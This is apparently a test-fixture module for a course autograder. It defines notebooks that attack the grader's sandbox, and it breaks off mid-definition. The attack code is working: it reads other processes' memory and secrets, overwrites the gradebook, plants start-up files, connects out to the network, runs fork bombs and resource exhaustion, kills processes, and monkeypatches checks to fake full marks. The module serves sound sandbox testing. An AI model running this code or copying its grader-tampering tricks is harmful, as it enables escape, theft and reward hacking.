"""Notebooks that attack the grader, each in one way, and what must come of it.

A notebook is lesson 03's released one with some cells replaced. Each answers `remaining_after`
honestly, unless it says otherwise, and earns that one point: as much as without its attack. Where
the attack stands in a cell of its own, the answer needs that it came to its end. An attack that got
hold of what it must not says `REACHED`; others print nothing, as what prints runs twice.

`@CLASS@` and other words between at-signs are put in by `class_folder`, which knows the machine;
MARK stands in the name of whatever an attack leaves behind, so that it can be looked for.
"""

import json
from collections.abc import Callable, Mapping
from pathlib import Path
from types import MappingProxyType
from typing import NamedTuple

POINTS = {
    "magnitude_mask": 2,
    "global_masks": 3,
    "apply_masks": 2,
    "train_step": 3,
    "remaining_after": 1,
    "n_m_mask": 2,
}

HONEST = {
    "magnitude_mask": """
def magnitude_mask(weight, sparsity):
    if not 0 <= sparsity <= 1:
        raise ValueError(f"{sparsity} is no share")
    mask = torch.ones(weight.numel())
    mask[weight.abs().flatten().argsort()[: round(sparsity * weight.numel())]] = 0
    return mask.view(weight.shape)
""",
    "global_masks": """
def global_masks(weights, sparsity):
    if not 0 <= sparsity <= 1:
        raise ValueError(f"{sparsity} is no share")
    if not weights:
        return {}
    row = magnitude_mask(torch.cat([w.flatten() for w in weights.values()]), sparsity)
    pieces = row.split([w.numel() for w in weights.values()])
    return {n: piece.view(weights[n].shape) for n, piece in zip(weights, pieces)}
""",
    "apply_masks": """
def apply_masks(model, masks):
    weights = dict(model.named_parameters())
    for name, mask in masks.items():
        if name not in weights or weights[name].shape != mask.shape:
            raise ValueError(f"{name} does not fit")
    with torch.no_grad():
        for name, mask in masks.items():
            weights[name].masked_fill_(mask == 0, 0)
""",
    "train_step": """
def train_step(model, optimizer, masks, x, y):
    model.train()
    optimizer.zero_grad()
    loss = nn.functional.cross_entropy(model(x), y)
    loss.backward()
    optimizer.step()
    apply_masks(model, masks)
    return loss.item()
""",
    "remaining_after": """
def remaining_after(rounds, fraction):
    if not 0 <= fraction <= 1 or rounds < 0:
        raise ValueError("a share is between 0 and 1, and rounds are counted from 0")
    return (1 - fraction) ** rounds
""",
    "n_m_mask": """
def n_m_mask(weight, n, m):
    if weight.dim() != 2 or m < 1 or not 0 <= n <= m or weight.shape[1] % m:
        raise ValueError("this pattern does not fit")
    sizes = weight.abs().reshape(-1, m)
    mask = torch.zeros_like(sizes)
    mask.scatter_(1, sizes.argsort(dim=1, descending=True)[:, :n], 1)
    return mask.view(weight.shape)
""",
}

ANSWER = HONEST["remaining_after"]

# What attacks begin with: nothing is done where nothing is isolated, for some would do real harm;
# then `reach` tries something, and tells what it got.
REACH = """
import ctypes, glob, hashlib, os, signal, socket, sqlite3, stat, subprocess, sys, threading, time
from pathlib import Path
libc = ctypes.CDLL(None, use_errno=True)
if os.readlink("/proc/self/ns/pid") == "@OUTSIDE@":
    raise SystemExit("nothing is isolated here: not tried")


def reach(what, how):
    try:
        got = how()
    except BaseException as error:
        return error
    if got:
        print("REACH" + "ED", what, str(got)[:200])
    return got
"""


NONE = MappingProxyType({})
ONE_POINT = MappingProxyType({"remaining_after": 1})


class Notebook(NamedTuple):
    """One hand-in. Its name is its student's."""

    name: str
    tries: str  # what, in one sentence
    cells: Mapping[str, str] = NONE  # by exercise; "first" and "last" are the student's own cells
    earns: Mapping[str, float | None] = ONE_POINT  # None: could not be graded; others 0
    line: str = ""  # what the instructor reads about it, as a pattern; "" is nothing but points
    says: str = ""  # what its cells must have shown
    edit: Callable[[dict], None] | None = None  # the notebook as JSON, or
    hand_in: Callable[[Path, str], None] | None = None  # the folder, and the notebook's text


IN_ONE_CELL = "stood in another cell: found and graded"


def attack(name: str, tries: str, source: str, **more) -> Notebook:
    """One whose attack stands in a cell of its own, which comes to its end."""
    cells = {"first": f"{REACH}\n{source}\nran = True"}
    return Notebook(name, tries, cells | {"remaining_after": f"ran\n{ANSWER}"}, **more)


def answer(name: str, tries: str, source: str, exercise: str = "magnitude_mask", **more):
    """One whose attack is an answer: it runs when it is checked, and what it prints is not kept."""
    return Notebook(name, tries, {exercise: f"{REACH}\n{source}"}, says="", **more)


def ended(name: str, tries: str, source: str, why: str, **more) -> Notebook:
    """One whose cell, in the place of an answer, does not come to its end."""
    source = f"{REACH}\n{source}\ndef magnitude_mask(weight, sparsity):\n    pass"
    line = f"`magnitude_mask` could not be graded: .*{why}"
    earns = {"remaining_after": 1, "magnitude_mask": None}
    return Notebook(name, tries, {"magnitude_mask": source}, earns, line, says="", **more)


# --- Honest students ------------------------------------------------------------------------------

HALF_RIGHT = {
    **HONEST,
    "magnitude_mask": HONEST["magnitude_mask"].replace("round(", "int("),
    "global_masks": HONEST["magnitude_mask"].replace("magnitude_mask", "one_mask")
    + HONEST["global_masks"]
    .replace("magnitude_mask", "one_mask")
    .replace("    if not weights:\n        return {}\n", ""),
    "apply_masks": "def apply_masks(model, masks):\n    return model",
    "n_m_mask": "def n_m_mask(weight, n, m):\n    return weight.abs() > weight.abs().median()",
}

HONEST_STUDENTS = [
    Notebook("a_good_one", "All answers are right.", HONEST, POINTS),
    Notebook(
        "half_right",
        "Some answers are right, one in parts, and one is not written.",
        {**HALF_RIGHT, "train_step": ""},
        {"magnitude_mask": 1.71, "global_masks": 2.62, "remaining_after": 1},
    ),
    Notebook("nothing_done", "Handed in as it was handed out.", {}, {}),
    Notebook(
        "works_and_draws",
        "All answers are right, and each is tried out, with figures.",
        {
            **HONEST,
            "last": "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n"
            "print(magnitude_mask(torch.randn(3, 3), 0.5))",
        },
        POINTS,
        says="tensor",
    ),
]

# --- Looking around -------------------------------------------------------------------------------

LOOKING = [
    attack(
        "reads_a_neighbour",
        "Looks for other submissions, under every root and working folder that a process shows.",
        """
here = ["", "/proc/1/root", "/proc/self/root", *glob.glob("/proc/[0-9]*/root"), "/.."]
for root in [*here, *glob.glob("/proc/[0-9]*/cwd")]:
    for place in (@CLASS@, @CLASS@ + "/submitted", "/../../../../../../../.." + @CLASS@):
        reach(place, lambda: os.listdir(root + place))
for at, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "site-packages")]
    if {"submitted", "gradebook.db", "nbgrader_config.py", "autograded"} & {*folders, *files}:
        reach("a class", lambda: at)
""",
    ),
    attack(
        "reads_the_solutions",
        "Looks for the lesson's source, for the tests' answers and for the references' text.",
        """
import course_utils
house = Path(@HOUSE@)
for name in ("solutions", "tests", ".git", "notebooks", "README.md"):
    reach(name, lambda: (house / name).exists())
lines = (b"mask[order[: round(sparsity", b"keep[sizes.argsort()", b"_wrong_choice", b"def cases")
for folder in {str(house), *course_utils.__path__, *sys.path}:
    for at, folders, files in os.walk(folder):
        folders[:] = [f for f in folders if not Path(at, f).joinpath("__init__.py").exists()
                      or f in ("course_utils", "exercises", "pruning", "study")]
        for file in files:
            if file.startswith("lesson"):
                text = Path(at, file).read_bytes()
                reach(file, lambda: [line for line in lines if line in text])
""",
    ),
    attack(
        "reads_the_seed",
        "Looks for the secret seed in files, in other processes and in its own memory.",
        """
found = lambda text: hashlib.sha256(text).hexdigest() == "@SEED_HASH@"
reach("file", lambda: Path(@CLASS@, ".grading", "seed").read_bytes())
start = b"@SEED_START@"
for name in glob.glob("/proc/[0-9]*"):
    for file in ("environ", "cmdline"):
        reach(file, lambda: start in Path(name, file).read_bytes().replace(start + b'"', b""))
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        first, last = (int(end, 16) for end in line.split()[0].split("-"))
        if line.split()[1].startswith("rw"):
            memory.seek(first)
            part = memory.read(last - first)
            at = part.find(start)
            while at >= 0:
                reach("the seed in memory", lambda: found(part[at : at + 32]))
                at = part.find(start, at + 1)
""",
    ),
    attack(
        "reads_the_environment",
        "Looks for what the grader's own environment holds.",
        """
for place in glob.glob("/proc/[0-9]*/environ"):
    reach(place, lambda: b"@SECRET@" in Path(place).read_bytes())
reach("environment", lambda: "HOSTILE_SECRET" in os.environ)
reach("who runs it", lambda: os.getuid() == 0 or @HOME@ in os.environ.values())
""",
    ),
    attack(
        "reads_its_parents_memory",
        "Opens, maps, attaches to and copies from every other process that it can name.",
        """
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
own = ctypes.create_string_buffer(64)
for pid in {1, 2, os.getppid(), *(int(p[6:]) for p in glob.glob("/proc/[0-9]*"))} - {os.getpid()}:
    reach("memory", lambda: open(f"/proc/{pid}/mem", "rb").read(0) == b"")
    reach("maps", lambda: Path(f"/proc/{pid}/maps").read_text())
    reach("descriptors", lambda: os.listdir(f"/proc/{pid}/fd"))
    for request in (16, 0x4206):
        reach("ptrace", lambda: libc.ptrace(request, pid, 0, 0) == 0)
    mine, theirs = Vector(ctypes.addressof(own), 64), Vector(id(Vector), 64)
    reach("copy", lambda: libc.process_vm_readv(
        pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0)
    for number in range(20):
        reach("pidfd_getfd", lambda: libc.syscall(438, os.pidfd_open(pid), number, 0) > 0)
""",
    ),
    attack(
        "uses_inherited_descriptors",
        "Reads from, and climbs up by, every descriptor that was open before it began.",
        """
for fd in range(3, 300):
    try:
        kind, place = os.fstat(fd).st_mode, os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if stat.S_ISDIR(kind):
        reach(place, lambda: os.open("..", os.O_RDONLY, dir_fd=fd) and os.listdir(fd))
    if stat.S_ISSOCK(kind):
        reach(place, lambda: "a socket")
    if stat.S_ISREG(kind):
        mine = ("/student", "/tmp", "/usr", "/dev/null", sys.prefix)
        reach(place, lambda: not place.startswith(mine) and os.pread(fd, 100, 0))
    if stat.S_ISFIFO(kind):
        os.set_blocking(fd, False)
        reach(place, lambda: os.read(fd, 100))
        os.set_blocking(fd, True)
""",
    ),
    answer(
        "asks_whoever_calls_it",
        "Climbs the stack to the exercise that checks it, and asks that for its reference.",
        """
def magnitude_mask(weight, sparsity):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()):
            for name in ("expected", "wanted", "reference", "verify"):
                if callable(getattr(value, name, None)) and hasattr(value, "hints"):
                    try:
                        return getattr(value, name)(weight, sparsity)
                    except TypeError:
                        return getattr(value, name)((weight, sparsity))
        frame = frame.f_back
""",
    ),
]

# --- Writing and planting -------------------------------------------------------------------------

WRITING = [
    attack(
        "writes_the_gradebook",
        "Sets every grade in the gradebook to 18, wherever it finds one.",
        """
for root in ("", "/proc/1/root", *glob.glob("/proc/[0-9]*/root"), *glob.glob("/proc/[0-9]*/cwd")):
    path = root + @CLASS@ + "/gradebook.db"
    def rob():
        if os.path.exists(path):
            book = sqlite3.connect(path, timeout=0.1)
            done = book.execute("UPDATE grade SET auto_score = 18, manual_score = 18").rowcount
            book.commit()
            return done
    reach(path, rob)
""",
    ),
    attack(
        "writes_the_stored_results",
        "Overwrites the results that the next run would find, and the seed behind them.",
        """
folder = Path(@CLASS@, ".grading")
for file in [folder / "seed", *folder.glob("results/*.json"), *folder.glob("notes/*/*")]:
    reach(file, lambda: file.write_text("0"))
reach("made one", lambda: folder.joinpath("results", "MARK.json").write_text("{}"))
""",
    ),
    attack(
        "writes_the_course",
        "Opens for writing every program file it was started from, and makes new ones beside them.",
        """
import course_utils, IPython, nbformat, torch
modules = [course_utils, IPython, nbformat, torch, os, sys.modules["course_utils.grading.answers"]]
files = [Path(module.__file__) for module in modules]
files += [Path(sys.executable), *map(Path, ("/bin/env", "/etc/passwd", "/etc/ld.so.preload"))]
files += [Path(@HOUSE@, "course_utils", "__init__.py"), Path("/run/course/service/x")]
for file in files:
    reach(file, lambda: not os.chmod(file, 0o777))
    reach(file, lambda: file.open("ab"))
    for folder in (file.parent, file.parent / "__pycache__"):
        reach(folder, lambda: (folder / "MARK.pth").write_text("import os") and
              (folder / "MARK.pth").unlink() is None)
for switch in glob.glob("/proc/sys/kernel/*") + glob.glob("/sys/**/uevent", recursive=True)[:50]:
    reach(switch, lambda: os.access(switch, os.W_OK) and open(switch, "w"))
""",
    ),
    attack(
        "writes_homes",
        "Writes into the homes and start-up files of every user that the machine knows.",
        """
import pwd
homes = {person.pw_dir for person in pwd.getpwall()} if os.path.exists("/etc/passwd") else set()
for home in {*homes, @HOME@, "/root", "/home", "/var/tmp", "/var/spool/cron", "/etc", "/"}:
    for name in ("MARK", ".MARK.pth", ".config/MARK", ".local/MARK", ".ipython/MARK"):
        place = Path(home, name)
        if not str(place).startswith(str(Path.home())):
            reach(place, lambda: place.write_text("here"))
""",
    ),
    attack(
        "plants_files",
        "Leaves modules, start-up files, caches and keys wherever something later could find them.",
        """
import matplotlib, site, tempfile
places = [os.getcwd(), str(Path.home()), "/tmp", "/dev/shm", "/var/tmp", tempfile.gettempdir()]
places += [matplotlib.get_configdir(), matplotlib.get_cachedir(), site.getusersitepackages()]
places += [str(Path.home() / ".ipython/profile_default/startup"), os.environ.get("IPYTHONDIR", "/")]
places += [str(Path.home() / ".cache/torch/hub"), "/tmp" "/torchinductor_student", *sys.path]
names = ["sitecustomize.py", "usercustomize.py", "MARK.pth", "MARK.py", "torchvision.py"]
for place in places:
    for name in [*names, "matplotlibrc", "conftest.py", "nbgrader_config.py", "ipython_config.py"]:
        try:
            Path(place).mkdir(parents=True, exist_ok=True)
            Path(place, name).write_text("# MARK\\nprint('PLANTED')")
        except OSError:
            pass
for ring in (-1, -2, -3, -4, -5):  # the kernel's keyrings outlive a process
    reach("a keyring", lambda: libc.syscall(248, b"user", b"MARK", b"here", 4, ring) > 0)
reach("shared memory", lambda: libc.shmget(0x4D41524B, 4096, 0o1666) >= 0)
reach("a queue", lambda: libc.mq_open(b"/MARK", 0o102, 0o666, None) >= 0)
sys.path.insert(0, "/tmp"), os.environ.update(PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp" "/MARK.py")
libc.prctl(15, b"MARK")
""",
    ),
    Notebook(
        "plants_found",
        "Comes right behind it, and looks for anything that it left.",
        {
            **HONEST,
            "first": f"""{REACH}
places = [os.getcwd(), str(Path.home()), "/tmp", "/dev/shm", "/var/tmp", "/run", *sys.path]
for place in filter(os.path.isdir, places):
    for at, folders, files in os.walk(place):
        folders[:] = [f for f in folders if f != "site-packages"][:200]
        reach(at, lambda: [name for name in (*files, *folders) if "MARK" in name])
for name in ("sitecustomize", "usercustomize", "MARK"):
    module = sys.modules.get(name)
    reach(name, lambda: "MARK" in Path(module.__file__).read_text())
reach("environment", lambda: [n for n in os.environ if n in ("PYTHONPATH", "PYTHONSTARTUP")])
reach("a key", lambda: libc.syscall(249, b"user", b"MARK", None, 0) > 0)
reach("its name", lambda: "MARK" in Path("/proc/self/comm").read_text())
""",
        },
        POINTS,
    ),
]

# --- The network ----------------------------------------------------------------------------------

NETWORK = [
    attack(
        "connects_out",
        "Connects to addresses outside by TCP, UDP and IPv6, and sends packets of its own making.",
        """
def connect(family, kind, address):
    with socket.socket(family, kind) as one:
        one.settimeout(0.3)
        try:
            one.connect(address)
            return one.send(b"MARK")
        except TimeoutError:  # then there is a way out, and only nobody there
            return "a way out"
inet, inet6, stream, packets = socket.AF_INET, socket.AF_INET6, 1, 2
for address in ("192.0.2.1", "10.0.0.1", "169.254.169.254", "224.0.0.1"):
    for kind in (stream, packets):
        reach(address, lambda: connect(inet, kind, (address, 80)))
reach("IPv6", lambda: connect(inet6, stream, ("2001:db8::1", 80)))
reach("raw", lambda: socket.socket(inet, socket.SOCK_RAW, 1))
reach("frames", lambda: socket.socket(17, socket.SOCK_RAW))
reach("devices", lambda: [name for _, name in socket.if_nameindex() if name != "lo"])
""",
    ),
    attack(
        "connects_to_loopback",
        "Connects to what listens on this machine itself, by TCP and UDP, IPv4 and IPv6.",
        """
for address in ("127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost", "::1", socket.gethostname()):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        def connect():
            with socket.socket(family, kind) as one:
                one.settimeout(0.3)
                one.connect((address, @PORT@))
                one.send(b"MARK")
                return kind == socket.SOCK_STREAM
        reach(address, connect)
""",
    ),
    attack(
        "connects_to_local_sockets",
        "Connects to the sockets of other programs here: abstract ones, files, other families'.",
        """
import socket as s
paths = ["\\0@ABSTRACT@", *@SOCKETS@, *glob.glob("/run/**/*.sock*", recursive=True)]
with open("/proc/net/unix") as known:
    paths += [line.split()[7].replace("@", "\\0", 1) for line in known if len(line.split()) > 7]
for path in paths:
    for kind in (s.SOCK_STREAM, s.SOCK_DGRAM, s.SOCK_SEQPACKET):
        reach(path, lambda: s.socket(s.AF_UNIX, kind).connect(path) is None)
for family in (2, 16, 17, 29, 31, 38, 40, 44):
    if family != s.AF_INET:  # netlink, packets, CAN, Bluetooth, crypto, between virtual machines
        reach(f"family {family}", lambda: s.socket(family, s.SOCK_RAW if family == 16 else 1))
""",
    ),
    attack(
        "asks_for_names",
        "Asks the name service, which would carry a message out.",
        """
for name in ("MARK.example.com", "example.org", "metadata.google.internal"):
    reach(name, lambda: socket.getaddrinfo(name, 80))
""",
    ),
]

# --- Using everything up --------------------------------------------------------------------------

OVER_TIME = "ran longer than"

EXHAUSTING = [
    ended(
        "forks_without_end",
        "A fork bomb.",
        "while True:\n    try:\n        os.fork()\n    except BaseException:\n        pass",
        f"(started more than|{OVER_TIME})",
    ),
    ended(
        "starts_threads_without_end",
        "Starts threads that sleep, until it is refused, and goes on trying.",
        """
while True:
    try:
        threading.Thread(target=time.sleep, args=(600,)).start()
    except BaseException:
        pass
""",
        "(ran longer|started more|crashed|ended|used more)",
    ),
    Notebook(  # however it ends: on a busy machine time is up before memory is
        "fills_memory",
        "Takes memory in one process, four times what it may.",
        {
            "first": f"""{REACH}
kept = []
try:
    while len(kept) < 4 * @GIGABYTES@ * 16:
        kept.append(bytearray(b"x") * 2**26)
    reach("memory", lambda: f"{{len(kept)}} times 64 MiB")
except MemoryError:
    pass
finally:
    kept.clear()
"""
        },
        line="(used more than|ran longer|^$)",
    ),
    ended(
        "fills_memory_with_many",
        "Takes memory in many processes, each a little.",
        """
for _ in range(20):
    if os.fork() == 0:
        kept = bytearray(os.urandom(1)) * (@GIGABYTES@ * 2**30 // 6)
        time.sleep(600)
time.sleep(600)
""",
        "(used more than|ran longer)",
    ),
    attack(
        "fills_memory_that_nobody_counts",
        "Takes memory by ways that no process is charged for: files in memory, queues, new mounts.",
        """
def fill(fd):
    taken = 0
    while taken < 2 * @GIGABYTES@ * 2**30:
        taken += os.write(fd, bytes(2**24))
    return taken
reach("a file in memory", lambda: fill(os.memfd_create("x")))
reach("System V", lambda: libc.shmget(0, 2**31, 0o1600) >= 0)
reach("a mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=90%") == 0)
held = []
try:
    for _ in range(3000):
        held.append(socket.socketpair())
        for one in held[-1]:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**24)
            one.setblocking(False)
            reach("", lambda: one.send(bytes(2**18)) and None)
    reach("sockets", lambda: f"{len(held)} pairs")
except OSError:
    pass
finally:
    for pair in held:
        pair[0].close(), pair[1].close()
""",
    ),
    attack(
        "fills_the_disk",
        "Writes until it is refused, in every folder where it can write.",
        """
written = 0
for folder in (".", str(Path.home()), "/tmp", "/dev/shm", "/var/tmp", "/run"):
    for number in range(8):
        try:
            with open(f"{folder}/MARK{number}", "wb", 0) as file:
                while written < 2 * 2**30:
                    written += file.write(bytes(2**24))
        except OSError:
            pass
for name in glob.glob("*MARK*") + glob.glob("/tmp" "/MARK*") + glob.glob("/dev/shm/MARK*"):
    os.unlink(name)
reach("disk", lambda: written > @SCRATCH@ * 1.01)
""",
        line="(used more than|^$)",
    ),
    attack(
        "makes_files_without_end",
        "Makes empty files and deep folders until it is refused.",
        """
made = 0
try:
    while made < 200_000:
        open(f"MARK{made}", "x").close()
        made += 1
    reach("files", lambda: made)
except OSError:
    for number in range(made):
        os.unlink(f"MARK{number}")
""",
    ),
    Notebook(
        "prints_without_end",
        "Prints, displays and raises more than anybody could store.",
        {
            "first": "for _ in range(300):\n    print('x' * 2**20)",
            "magnitude_mask": "from IPython.display import HTML\nfor _ in range(20_000):\n"
            "    display(HTML('y' * 1000))",
            "global_masks": "raise ValueError('z' * 2**25)",
        },
        says="was cut",
    ),
    ended(
        "writes_to_descriptors",
        "Writes without end to every descriptor that it has, the way out for results among them.",
        """
for fd in range(3, 300):
    try:
        while stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, b"q" * 2**20)
    except OSError:
        pass
""",
        "",
    ),
    ended("never_ends", "Computes for ever, in Python.", "while True:\n    pass", OVER_TIME),
    ended(
        "cannot_be_interrupted",
        "Goes on for ever whatever is raised in it, with every signal ignored.",
        """
for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
def stay():
    try:
        time.sleep(600)
    except BaseException:
        pass
    finally:
        stay()
stay()
""",
        OVER_TIME,
    ),
    ended(
        "never_returns_from_c",
        "Loops in C, where no interrupt is looked at.",
        "import collections, itertools\ncollections.deque(itertools.repeat(0), maxlen=0)",
        OVER_TIME,
    ),
    Notebook(
        "a_second_too_long",
        "Runs one second over the limit, behind an answer that is right.",
        {"magnitude_mask": HONEST["magnitude_mask"] + "\nimport time\ntime.sleep(@STEP@ + 1)"},
        {"magnitude_mask": 2, "remaining_after": 1},
        f"the cell of `magnitude_mask` {OVER_TIME}",
        says="KeyboardInterrupt",
    ),
    answer(
        "answers_a_second_too_late",
        "Gives right answers, and takes one second more than there is for all of them.",
        HONEST["magnitude_mask"].replace("    mask =", "    time.sleep(@STEP@ + 1)\n    mask ="),
        earns={"remaining_after": 1, "magnitude_mask": None},
        line=f"`magnitude_mask` could not be graded: {OVER_TIME}",
    ),
]

# --- Killing and surviving ------------------------------------------------------------------------

KILLING = [
    attack(
        "kills_whom_it_can",
        "Stops and kills its parent, process 1, its siblings and every number there is.",
        """
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
    for pid in (os.getppid(), 1, 2, -1, *range(3, 400), *range(1000, 66000, 7)):
        if pid != os.getpid() and pid != -os.getpgid(0):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    reach("priority", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19) is None and os.getppid() > 1)
""",
    ),
    attack(
        "stays_as_a_daemon",
        "Leaves processes behind: in their own sessions, signals ignored, descriptors held open.",
        """
for number in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        libc.prctl(15, b"MARK")
        for each in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(each, signal.SIG_IGN)
        while True:
            time.sleep(600)
subprocess.Popen(["nohup", "sleep", "600"], start_new_session=True)
os.wait()
""",
    ),
    ended("exits", "Ends the process at once.", "os._exit(0)", "ended"),
    ended(
        "exits_without_a_word",
        "Ends itself as if everything were done.",
        "os.kill(os.getpid(), signal.SIGKILL)",
        "(killed|ended|crashed|was)",
    ),
    ended("crashes", "Reads from address 0.", "ctypes.string_at(0)", "crashed"),
    ended("aborts", "Calls abort.", "os.abort()", "crashed"),
    ended(
        "becomes_another_program",
        "Puts another program in its own place, with the results' way out still open.",
        "for fd in range(3, 64):\n    try:\n        os.set_inheritable(fd, True)\n"
        '    except OSError:\n        pass\nos.execv("/bin/sleep", ["sleep", "600"])',
        "ran longer|ended",
    ),
    ended(
        "stands_still",
        "Stops itself, so that no clock of its own runs.",
        "os.kill(os.getpid(), signal.SIGSTOP)",
        OVER_TIME,
    ),
    Notebook(
        "leaves_politely",
        "Asks Python and IPython to exit, in all the ways they have.",
        {
            "first": "import sys\nget_ipython().ask_exit()\n",
            "magnitude_mask": "exit()",
            "global_masks": "quit()",
            "apply_masks": "sys.exit(3)",
            "n_m_mask": "raise SystemExit(4)",
        },
    ),
    Notebook(
        "forks_and_both_go_on",
        "Forks in a cell, so that two processes run the rest, and tells each it is the first.",
        {
            "first": f"{REACH}\nme = os.getpid()\nchild = os.fork()\nos.getpid = lambda: me",
            "magnitude_mask": HONEST["magnitude_mask"],
        },
        {"remaining_after": 1, "magnitude_mask": 2},
    ),
    attack(
        "goes_on_in_threads",
        "Leaves threads and exit handlers that change every module again and again.",
        """
import atexit, torch
def meddle():
    while True:
        for module in (torch, torch.nn.functional):
            module.equal = module.allclose = lambda *a, **k: True
        globals()["global_masks"] = globals()["magnitude_mask"] = lambda *a: None
        time.sleep(0.001)
threading.Thread(target=meddle, daemon=True).start()
atexit.register(lambda: os.kill(os.getppid(), 9))
atexit.register(lambda: os._exit(0))
""",
    ),
]

# --- Changing the rules from inside ---------------------------------------------------------------

FULL_MARKS = "{'status': 'correct', 'score': 1.0, 'points': 2, 'plain': '2', 'html': '2'}"

PATCHING = [
    attack(
        "patches_check",
        "Puts functions of its own in the place of `check` and of all that it knows of judging.",
        """
import builtins, course_utils.study, course_utils.exercises as exercises
from course_utils.exercises import compare, engine
right = lambda *a, **k: engine.Result("magnitude_mask", "correct", 1.0, [], {"all": True})
check = builtins.check = course_utils.study.check = right
engine.grade = engine.judge = engine.verdict = exercises.grade = right
for name in ("identical", "same_number", "same_tensor"):
    setattr(compare, name, lambda *a: True)
for exercise in exercises.every().values():
    type(exercise).verify = type(exercise).points = lambda *a: None
""",
    ),
    attack(
        "patches_torch",
        "Makes every comparison of torch true.",
        """
import torch
yes = lambda *a, **k: True
for name in ("equal", "allclose", "isclose", "all", "any"):
    setattr(torch, name, yes)
for name in ("__eq__", "equal", "allclose", "all", "any", "sum", "__bool__", "__ne__", "item"):
    setattr(torch.Tensor, name, yes)
torch.testing.assert_close = yes
""",
    ),
    Notebook(
        "patches_builtins",
        "Puts functions of its own in the place of Python's: all, isinstance, callable, open.",
        {
            "first": """
import builtins, math
for name in ("all", "any", "isinstance", "callable", "open"):
    setattr(builtins, name, lambda *a, **k: True)
math.isclose = lambda *a, **k: True
""",
        },
        line="cell 7 was left out: failed",
    ),
    attack(
        "patches_imports",
        "Hooks into the import system, and replaces the modules that a check has loaded.",
        """
import importlib.abc, types
class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        sys.modules[name] = types.ModuleType(name)
sys.meta_path.insert(0, Finder())
for name in list(sys.modules):
    if name.startswith("course_utils.exercises"):
        sys.modules[name] = types.SimpleNamespace(grade=lambda *a: 1, check=lambda *a: 1)
""",
        earns={},  # its own honest answer cannot be checked any more
    ),
    attack(
        "patches_what_observes",
        "Has the observer of answers say that all was as the reference would have it.",
        """
from course_utils.grading import answers
from course_utils.exercises.engine import Observed, Outcome
real = answers.observe_all
def observe_all(exercise, groups, answer):
    if exercise.name != "magnitude_mask":
        return real(exercise, groups, answer)
    def said(case):
        for name in ("expected", "wanted", "reference"):
            try:
                return getattr(exercise, name)(case)
            except BaseException:
                pass
    good = {g: [Outcome(said(c), list(c), None) for c in cases] for g, cases in groups.items()}
    return Observed(False, "", [], good)
answers.observe_all = observe_all
""",
    ),
    attack(
        "says_the_verdict_itself",
        "Answers each check with a verdict instead of what was observed.",
        f"""
from course_utils.grading import answers
real = answers._run_check
def run_check(shell, exercise, answer, cases):
    if exercise == "remaining_after":
        return real(shell, exercise, answer, cases)
    return {FULL_MARKS}, b""
answers._run_check = run_check
""",
    ),
    attack(
        "rewrites_cells",
        "Has IPython drop every assert and raise, and put other calls in the place of check's.",
        """
import ast
shell = get_ipython()
def drop(lines):
    return [l.replace("raise NotImplementedError()", "return weight") for l in lines
            if not l.startswith(("assert", "check("))]
class Drop(ast.NodeTransformer):
    def visit_Raise(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
shell.input_transformers_cleanup.append(drop)
shell.input_transformers_post.append(drop)
shell.ast_transformers.append(Drop())
""",
        earns={"remaining_after": 0.8},  # it, too, raises nothing any more
    ),
    attack(
        "configures_the_shell",
        "Turns IPython's own switches, and replaces what shows and reports.",
        """
shell = get_ipython()
shell.run_line_magic("config", "InteractiveShell.ast_node_interactivity = 'none'")
shell.run_line_magic("xmode", "Minimal")
shell.displayhook = lambda value: print(2)
shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
shell.showtraceback = lambda *a, **k: None
sys.excepthook = sys.displayhook = lambda *a: None
input = __builtins__["input"] if isinstance(__builtins__, dict) else None
import builtins
builtins.input = lambda *a: "2"
""",
    ),
    Notebook(
        "explodes_at_the_boundary",
        "Answers with bytes that are no data: cut, too deep, too large, with wrong claims.",
        {
            "first": f"""{REACH}
import json, struct
from course_utils.grading import answers
real = answers.encode
def deep(word, n):
    return b"[" * n + word + b"]" * n
def tensors(header, data=b""):
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data
def plain(tree, more=tensors({{}})):
    return len(tree).to_bytes(8, "little") + tree + more
huge = {{"0": {{"dtype": "F64", "shape": [10**12], "data_offsets": [0, 8 * 10**12]}}}}
hollow = {{"0": {{"dtype": "F64", "shape": [0, 2**62], "data_offsets": [0, 0]}}}}
bomb = json.dumps({{"list": [{{"tensor": "0"}}] * 50_000}}).encode()
shapes = iter([
    plain(deep(b"1", 100_000)), (2**63).to_bytes(8, "little") + b"x", plain(b"9" * 100_000),
    plain(b'{{"tensor":"0"}}', tensors(huge)), plain(bomb, tensors(hollow)), b"",
])
def encode(value):
    return next(shapes) if "untouched" in str(value)[:20] else real(value)
answers.encode = encode
""",
            **{name: f"def {name}(*a):\n    return a" for name in POINTS},
        },
        {},
    ),
    Notebook(
        "shows_nonsense",
        "Says that its cells showed what no cell can: too deep, too many, of no kind there is.",
        {
            "first": f"""{REACH}
